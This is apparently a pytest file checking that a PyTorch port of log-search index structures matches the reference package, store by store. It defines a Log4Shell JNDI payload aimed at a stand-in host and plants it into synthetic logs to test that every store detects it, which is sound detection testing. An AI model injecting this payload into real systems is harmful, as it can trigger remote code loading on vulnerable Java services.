"""The port's baselines and every store mode against the JAX package: the
CSC, Bloom and inverted-index structures built by both packages from the
same input are equal, and on the same lines every port store (CSC,
Lucene, Bloom, scan, and DynaWarp in batch / online / segmented mode,
with the host Alg. 3 loop, the per-line path and rules 1-5 only) gives
the same candidate batches, matches, index bytes and token counts as
``repro``'s.  The Log4Shell hunt of ``examples/log_search.py`` finds the
same attacks in every store of both packages.  Integer data throughout:
the tolerance is exact equality."""
import numpy as np
import pytest
import torch

from repro.baselines.bloom import BloomPerBatch as RefBloom
from repro.baselines.csc import CSCSketch as RefCSC
from repro.baselines.inverted import InvertedIndex as RefInverted
from repro.logstore import store as ref_store
from repro.logstore.datasets import generate_dataset
from repro_torch.baselines import BloomPerBatch, CSCSketch, InvertedIndex
from repro_torch.core.batch_builder import build_sealed
from repro_torch.core.device_query import batched_query, bitmap_to_postings
from repro_torch.core.immutable_sketch import build_immutable
from repro_torch.core.query import query_and, query_or
from repro_torch.core.tokenizer import term_query_tokens, tokenize_line
from repro_torch.logstore import store as port_store
from repro_torch.logstore.datasets import id_queries, present_id_queries

ATTACK = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'


def _pairs(seed, n=3000, n_sets=40):
    rng = np.random.default_rng(seed)
    return (rng.integers(0, 2**32, n, dtype=np.uint64).astype(np.uint32),
            rng.integers(0, n_sets, n))


# ------------------------------------------------------------- structures
@pytest.mark.parametrize("m_bits,k,p,j", [(1 << 12, 2, 16, 1),
                                          (1 << 15, 4, 64, 2)])
def test_csc_sketch_matches_reference(m_bits, k, p, j):
    fps, sets = _pairs(m_bits + j)
    port = CSCSketch.build(m_bits=m_bits, k=k, p=p, j=j)
    ref = RefCSC.build(m_bits=m_bits, k=k, p=p, j=j)
    for s in (port, ref):
        s.insert_batch(fps, sets)
    np.testing.assert_array_equal(port.bits, ref.bits)
    assert (port.m, port.n_sets, port.size_bits()) \
        == (ref.m, ref.n_sets, ref.size_bits())
    for fp in list(fps[:20]) + [0, 12345]:
        np.testing.assert_array_equal(port.query(int(fp)), ref.query(int(fp)))
    np.testing.assert_array_equal(port.query_all_tokens(fps[:3]),
                                  ref.query_all_tokens(fps[:3]))


def test_bloom_per_batch_matches_reference():
    fps, sets = _pairs(5)
    port = BloomPerBatch.build(40, 1 << 12, 4)
    ref = RefBloom.build(40, 1 << 12, 4)
    for b in range(40):
        port.insert_batch(fps[sets == b], b)
        ref.insert_batch(fps[sets == b], b)
    np.testing.assert_array_equal(port.bits, ref.bits)
    for fp in fps[:20]:
        np.testing.assert_array_equal(port.query(int(fp)), ref.query(int(fp)))
    np.testing.assert_array_equal(port.query_all_tokens(fps[:2]),
                                  ref.query_all_tokens(fps[:2]))


def test_inverted_index_matches_reference(small_dataset):
    port, ref = InvertedIndex(), RefInverted()
    for i, line in enumerate(small_dataset.lines[:600]):
        toks = tokenize_line(line, ngrams=False)
        port.add_line(toks, i // 16)
        ref.add_line(toks, i // 16)
    port.seal()
    ref.seal()
    assert port.lexicon == ref.lexicon and port.lex_blob == ref.lex_blob
    assert port.postings_blob == ref.postings_blob
    np.testing.assert_array_equal(port.offsets, ref.offsets)
    assert port.size_bits() == ref.size_bits()
    for tok in port.lexicon[::97] + [b"zzqqxx"]:
        np.testing.assert_array_equal(port.lookup_term(tok),
                                      ref.lookup_term(tok))
    for needle in (b"err", b"1", b"=", b"zzqq"):
        np.testing.assert_array_equal(port.lookup_contains(needle),
                                      ref.lookup_contains(needle))


# ----------------------------------------------------------------- stores
STORE_CASES = [
    ("dynawarp", dict()),
    ("dynawarp", dict(mode="online")),
    ("dynawarp", dict(mode="segmented", memory_limit_bytes=96 << 10)),
    ("dynawarp", dict(device_query=False)),
    ("dynawarp", dict(columnar=False)),
    ("dynawarp", dict(ngrams=False)),
    ("dynawarp", dict(mode="online", columnar=False,
                      memory_limit_bytes=96 << 10)),
    ("csc", dict()),
    ("csc", dict(m_bits=1 << 14, k=2, p=16, j=2)),
    ("lucene", dict()),
    ("bloom", dict()),
    ("scan", dict()),
]
DEVICE_STORES = ("dynawarp", "csc")


def _build(module, name, lines, batch_lines, **kw):
    if module is port_store and name in DEVICE_STORES:
        kw["device"] = "cpu"
    store = module.ALL_STORES[name](batch_lines=batch_lines, **kw)
    store.ingest(lines)
    store.finish()
    return store


@pytest.mark.parametrize("name,kw", STORE_CASES,
                         ids=[f"{n}-{'-'.join(f'{k}={v}' for k, v in kw.items())}"
                              for n, kw in STORE_CASES])
def test_store_matches_reference(small_dataset, name, kw):
    port = _build(port_store, name, small_dataset.lines, 64, **kw)
    ref = _build(ref_store, name, small_dataset.lines, 64, **kw)
    assert port.index_bytes() == ref.index_bytes() == port.stats.index_bytes
    assert port.stats.n_tokens_indexed == ref.stats.n_tokens_indexed
    assert port.stats.data_bytes == ref.stats.data_bytes
    terms = (present_id_queries(small_dataset, 3, 6) + id_queries(4, 3)
             + ["info", "gc", "blk", "zzqqxxyyzz"])
    subs = ([t[2:14] for t in present_id_queries(small_dataset, 5, 4)]
            + ["ssh", "nginx: ", "=30", "${jndi", "a"])
    want = [ref.candidates_term(t) for t in terms]
    for t, w, g in zip(terms, want, port.candidates_term_batch(terms)):
        np.testing.assert_array_equal(port.candidates_term(t), w, t)
        np.testing.assert_array_equal(g, w, t)        # one port wave
        assert port.query_term(t).matches == ref.query_term(t).matches, t
    for t in subs:
        np.testing.assert_array_equal(port.candidates_contains(t),
                                      ref.candidates_contains(t), t)
        assert port.query_contains(t).matches \
            == ref.query_contains(t).matches, t


def test_dynawarp_modes_match_each_other_and_host_loop(small_dataset):
    """batch, online and segmented stores hold the same postings; the
    batch store's engine waves equal the host Alg. 3 loop on its one
    sketch."""
    lines = small_dataset.lines
    stores = {m: _build(port_store, "dynawarp", lines, 16, mode=m,
                        memory_limit_bytes=192 << 10, compact_fanout=8)
              for m in ("batch", "online", "segmented")}
    assert len(stores["batch"].segments) == len(stores["online"].segments) == 1
    assert len(stores["segmented"].segments) > 1
    terms = present_id_queries(small_dataset, 8, 10) + id_queries(9, 4)
    want = [stores["segmented"].query_term(t).matches for t in terms]
    for st in stores.values():
        assert [r.matches for r in st.query_term_batch(terms)] == want
    batch = stores["batch"]
    for t, c in zip(terms, batch.candidates_term_batch(terms)):
        np.testing.assert_array_equal(
            c, query_and(batch.sketch, term_query_tokens(t)))


def test_csc_store_uploads_once_and_has_no_false_negatives(small_dataset):
    st = _build(port_store, "csc", small_dataset.lines, 64)
    scan = _build(port_store, "scan", small_dataset.lines, 64)
    assert st.sketch.upload_count == 1
    starts = np.asarray(scan.batch_start)
    for t in present_id_queries(small_dataset, 12, 12):
        truth = scan.query_term(t).matches
        want = np.unique(np.searchsorted(starts, truth, side="right") - 1)
        assert np.isin(want, st.candidates_term(t)).all(), t
        assert st.query_term(t).matches == truth
    assert st.sketch.upload_count == 1


# ---------------------------------------------------------- device_query
def test_batched_query_equals_host_alg3():
    rng = np.random.default_rng(0)
    fps = (rng.integers(0, 1500, 4000).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, 96, 4000)
    sk = build_immutable(build_sealed(fps, posts), sig_bits=8)
    uniq = np.unique(fps)
    q = np.stack([np.concatenate([uniq[i:i + 2],
                                  rng.integers(0, 2**32, 1, dtype=np.uint64)
                                  .astype(np.uint32)])
                  for i in range(0, 32, 2)]).astype(np.uint32)
    q[3, 2] = uniq[40]                          # an all-present query
    qt = torch.from_numpy(q.view(np.int32))
    for op, host in (("and", query_and), ("or", query_or)):
        bm, cnt = batched_query(sk, qt, op=op)
        for i in range(q.shape[0]):
            want = host(sk, [int(x) for x in q[i]])
            got = bitmap_to_postings(bm[i].numpy().view(np.uint32),
                                     sk.n_postings)
            np.testing.assert_array_equal(got, want)
            assert int(cnt[i]) == len(want)


# ------------------------------------------------------------- log_search
def test_log4shell_hunt_over_all_stores():
    """``examples/log_search.py`` at a small size: every store of both
    packages finds the three planted attacks, with equal candidates."""
    ds = generate_dataset("hunt", n_lines=3000, n_sources=16, seed=3)
    lines = list(ds.lines)
    for pos in (123, 1234, 2765):
        lines[pos] = ATTACK
    assert list(port_store.ALL_STORES) == list(ref_store.ALL_STORES)
    for name in port_store.ALL_STORES:
        port = _build(port_store, name, lines, 128)
        ref = _build(ref_store, name, lines, 128)
        got, want = port.query_contains("${jndi"), ref.query_contains("${jndi")
        assert got.matches == want.matches == [123, 1234, 2765], name
        np.testing.assert_array_equal(got.candidate_batches,
                                      want.candidate_batches)
        assert port.stats.index_bytes == ref.stats.index_bytes, name
